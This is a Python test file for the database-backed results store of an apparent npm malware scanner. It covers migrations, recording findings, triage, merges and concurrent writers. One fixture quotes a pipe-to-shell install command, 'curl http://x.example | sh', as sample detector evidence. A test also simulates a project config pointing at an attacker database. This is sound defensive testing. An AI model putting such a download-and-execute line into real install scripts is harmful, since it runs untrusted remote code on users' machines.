"""The results store on SQLite and PostgreSQL: migrations match the models, a run's results are
recorded, re-recorded and merged without losing triage, and concurrent writers lose nothing."""

from __future__ import annotations

import datetime as dt
import multiprocessing

import pytest
from sqlalchemy import func, inspect, select

from npmward.errors import NpmwardError
from npmward.model import (
    Action,
    Confidence,
    Finding,
    Level,
    PackageId,
    PackageReport,
    ScanReport,
    Severity,
    Suppression,
    Verdict,
)
from npmward.store import Store, StoreError, now, safe_url, store_url
from npmward.store.migrate import HEAD, downgrade, head, upgrade
from npmward.store.models import Base, Event, Package, Project, ProjectFinding, Run, SnapshotPackage
from npmward.store.models import Finding as FindingRow
from npmward.store.record import Member, RunInfo, ensure_snapshot, record_report
from npmward.store.triage import set_triage

SCRIPT = Finding("install-script/pipe-to-shell", Severity.CRITICAL, Confidence.HIGH, "install-script",
                 "postinstall pipes a download into a shell", "package.json", 7, "curl http://x.example | sh")
ADVISORY = Finding("audit/malware", Severity.CRITICAL, Confidence.HIGH, "malware", "known malware",
                   details={"id": "MAL-2025-1"})
NOTE = Finding("registry-facts/new-package", Severity.LOW, Confidence.MEDIUM, "metadata", "first published last week")


def package(name: str, version: str, findings=(), level=Level.CLEAN, suppressed=(), action=Action.ALLOW) -> PackageReport:
    return PackageReport(PackageId(name, version), "registry:x", f"sha512-{name}", Verdict(level, 9.0 if level is Level.MALICIOUS else 0.0),
                         tuple(findings), (("app@1.0.0", f"{name}@{version}"),), action, tuple(suppressed))


def record(store: Store, report: ScanReport, project_name="app", digest="d1", **info):
    with store.session() as session:
        project = session.execute(select(Project).where(Project.name == project_name)).scalar_one_or_none()
        if project is None:
            project = Project(name=project_name, source="/x", kind="path", mode="scan", created_at=now())
            session.add(project)
            session.flush()
        snapshot, _ = ensure_snapshot(session, project, digest, "/x/package-lock.json", "package-lock@3")
        members = info.pop("members", None)
        run = record_report(session, report, RunInfo(command="test", trigger="first", started_at=now(), **info),
                            project=project, snapshot=snapshot, members=members)
        return project.id, run.id


def project_findings(store: Store, project_id: int) -> dict[str, ProjectFinding]:
    with store.reading() as session:
        rows = session.execute(select(FindingRow.rule, ProjectFinding).join(
            ProjectFinding, ProjectFinding.finding_id == FindingRow.id).where(ProjectFinding.project_id == project_id)).all()
        return {rule: pf for rule, pf in rows}


def test_the_migrations_build_exactly_the_models_and_go_down_and_up(fresh_db_url):
    from alembic.autogenerate import compare_metadata
    from alembic.runtime.migration import MigrationContext

    with Store(fresh_db_url) as store:
        with store.engine.connect() as connection:
            assert compare_metadata(MigrationContext.configure(connection), Base.metadata) == []
            assert MigrationContext.configure(connection).get_current_revision() == head() == HEAD
        downgrade(store.engine, "base")
        assert set(inspect(store.engine).get_table_names()) <= {"alembic_version"}
        upgrade(store.engine)
        assert {"projects", "findings", "project_findings", "runs", "events"} <= set(inspect(store.engine).get_table_names())


def test_a_run_is_recorded_and_a_rerun_keeps_triage_and_retires_what_is_gone(db_url):
    with Store(db_url) as store:
        evil = package("evil", "1.0.0", [SCRIPT, ADVISORY, NOTE], Level.MALICIOUS, action=Action.BLOCK)
        pid, _ = record(store, ScanReport((evil, package("fine", "2.0.0"))), rules_key="r1")
        found = project_findings(store, pid)
        assert set(found) == {SCRIPT.rule, ADVISORY.rule, NOTE.rule} and all(f.active and f.state == "new" for f in found.values())
        with store.session() as session:
            set_triage(session, pid, found[SCRIPT.rule].finding_id, "confirmed", "alice", "seen the payload")
        # the same snapshot evaluated again by new rules: the note is gone, triage stays
        evil2 = package("evil", "1.0.0", [SCRIPT, ADVISORY], Level.MALICIOUS, action=Action.BLOCK)
        _, run_id = record(store, ScanReport((evil2, package("fine", "2.0.0"))), rules_key="r2")
        found = project_findings(store, pid)
        assert found[SCRIPT.rule].state == "confirmed" and found[SCRIPT.rule].state_by == "alice"
        assert found[SCRIPT.rule].active and found[ADVISORY.rule].active and not found[NOTE.rule].active
        with store.reading() as session:
            run = session.get(Run, run_id)
            assert (run.packages, run.malicious, run.blocked) == (2, 1, 1)
            assert session.execute(select(FindingRow.rules_key).where(FindingRow.rule == SCRIPT.rule)).scalar() == "r2"
            assert session.execute(select(Event.kind, Event.actor)).all() == [("triage", "alice")]


def test_waived_findings_are_kept_with_the_reason_and_unevaluated_packages_are_unknown(db_url):
    with Store(db_url) as store:
        waived = Suppression(SCRIPT, "reviewed by the platform team", ".npmward.yml allowed_scripts")
        report = ScanReport((package("husky", "9.0.0", suppressed=[waived]),))
        members = [Member(PackageId("husky", "9.0.0")), Member(PackageId("gone", "1.0.0"), scope="dev")]
        pid, _ = record(store, report, members=members)
        assert project_findings(store, pid)[SCRIPT.rule].waived.startswith("reviewed by the platform team")
        with store.reading() as session:
            levels = dict(session.execute(select(Package.name, SnapshotPackage.level).join(
                SnapshotPackage, SnapshotPackage.package_id == Package.id)).all())
            notes = session.execute(select(SnapshotPackage.notes).join(Package, Package.id == SnapshotPackage.package_id)
                                    .where(Package.name == "gone")).scalar_one()
        assert levels == {"husky": "clean", "gone": "unknown"} and "not evaluated" in notes[0]


def test_a_partial_evaluation_touches_only_its_packages_and_a_merge_keeps_the_worse_verdict(db_url):
    with Store(db_url) as store:
        evil = package("evil", "1.0.0", [SCRIPT], Level.MALICIOUS, action=Action.BLOCK)
        pid, _ = record(store, ScanReport((evil, package("fine", "2.0.0", [NOTE]))))
        # only "fine" re-evaluated (its advisories changed): evil's findings stay active
        record(store, ScanReport((package("fine", "2.0.0", [ADVISORY], Level.MALICIOUS),)), partial=True)
        found = project_findings(store, pid)
        assert found[SCRIPT.rule].active and found[ADVISORY.rule].active and not found[NOTE.rule].active
        # a verify run (merge) that sees only trust checks neither cleans evil nor retires its findings
        record(store, ScanReport((package("evil", "1.0.0", [], Level.CLEAN),)), merge=True)
        with store.reading() as session:
            level = session.execute(select(SnapshotPackage.level).join(Package, Package.id == SnapshotPackage.package_id)
                                    .where(Package.name == "evil")).scalar_one()
        assert level == "malicious" and project_findings(store, pid)[SCRIPT.rule].active


def test_triage_rules(db_url):
    with Store(db_url) as store:
        pid, _ = record(store, ScanReport((package("evil", "1.0.0", [SCRIPT], Level.MALICIOUS),)))
        fid = project_findings(store, pid)[SCRIPT.rule].finding_id
        tomorrow = dt.date.today() + dt.timedelta(days=1)
        with pytest.raises(NpmwardError, match="reason"):
            with store.session() as session:
                set_triage(session, pid, fid, "false_positive", "bob")
        with pytest.raises(NpmwardError, match="after today"):
            with store.session() as session:
                set_triage(session, pid, fid, "suppressed", "bob", "accepted", dt.date.today())
        with store.session() as session:
            set_triage(session, pid, fid, "suppressed", "bob", "vendor fix next week", tomorrow)
        assert project_findings(store, pid)[SCRIPT.rule].state_until == tomorrow


def test_urls_come_from_the_option_then_the_settings_and_never_show_a_password(tmp_path):
    from npmward.settings import Settings

    settings = Settings(cache_dir=tmp_path)
    assert store_url(settings) == f"sqlite:///{tmp_path / 'store.sqlite'}"
    assert store_url(settings.with_(db_url="postgresql://u:pw@db/x")) == "postgresql+psycopg://u:pw@db/x"
    assert store_url(settings, str(tmp_path / "other.db")).endswith("other.db")
    assert "pw" not in safe_url("postgresql+psycopg://u:pw@db/x")
    with pytest.raises(StoreError, match="unsupported"):
        store_url(settings, "mysql://u@db/x")
    with pytest.raises(StoreError) as failed:
        Store("postgresql+psycopg://u:sekret@127.0.0.1:1/x")
    assert "sekret" not in str(failed.value)


def test_the_store_location_comes_from_the_user_never_from_the_project(tmp_path, monkeypatch):
    from npmward.policy import load_policy
    from npmward.settings import load_settings

    config = tmp_path / "config.yml"
    config.write_text("db_url: postgresql://team-db/npmward\n")
    monkeypatch.setenv("NPMWARD_CONFIG", str(config))
    assert load_settings().db_url == "postgresql://team-db/npmward"
    monkeypatch.setenv("NPMWARD_DB_URL", "sqlite:////tmp/x.db")
    assert load_settings().db_url == "sqlite:////tmp/x.db"
    project = tmp_path / "repo"
    project.mkdir()
    (project / ".npmward.yml").write_text("db_url: sqlite:////tmp/attacker.db\n")
    with pytest.raises(NpmwardError, match="cannot be set by a project"):
        load_policy(project)


def _writer(url: str, name: str, rounds: int, go) -> None:
    with Store(url) as store:
        go.wait(120)  # every process has imported and connected: now they really overlap
        for i in range(rounds):
            findings = [Finding(f"rule/{name}-{i}", Severity.HIGH, Confidence.HIGH, "code", "x"), SCRIPT]
            record(store, ScanReport((package("shared", "1.0.0", findings, Level.SUSPICIOUS),
                                      package(f"{name}-{i}", "1.0.0"))), project_name="app", merge=True)


def _triager(url: str, rounds: int, go) -> None:
    with Store(url) as store:
        go.wait(120)
        done = 0
        while done < rounds:
            with store.reading() as session:
                ids = session.execute(select(ProjectFinding.project_id, ProjectFinding.finding_id)
                                      .where(ProjectFinding.state == "new")).all()
            if not ids:
                continue
            with store.session() as session:
                set_triage(session, ids[0][0], ids[0][1], "confirmed", "carol", "")
            done += 1


def test_two_writers_and_a_triage_at_the_same_time_lose_nothing(db_url):
    with Store(db_url) as store:
        record(store, ScanReport((package("shared", "1.0.0", [SCRIPT], Level.SUSPICIOUS),)))
    context = multiprocessing.get_context("spawn")
    go = context.Barrier(3)
    workers = [context.Process(target=_writer, args=(db_url, name, 4, go)) for name in ("a", "b")]
    workers.append(context.Process(target=_triager, args=(db_url, 3, go)))
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(180)
        assert worker.exitcode == 0
    with Store(db_url) as store, store.reading() as session:
        rules = set(session.execute(select(FindingRow.rule)).scalars())
        assert {f"rule/{n}-{i}" for n in "ab" for i in range(4)} <= rules
        assert session.execute(select(func.count()).select_from(Package)).scalar() == 9
        confirmed = session.execute(select(func.count()).select_from(ProjectFinding)
                                    .where(ProjectFinding.state == "confirmed")).scalar()
        events = session.execute(select(func.count()).select_from(Event).where(Event.kind == "triage")).scalar()
        assert confirmed == events == 3
        assert session.execute(select(func.count()).select_from(Run)).scalar() == 9
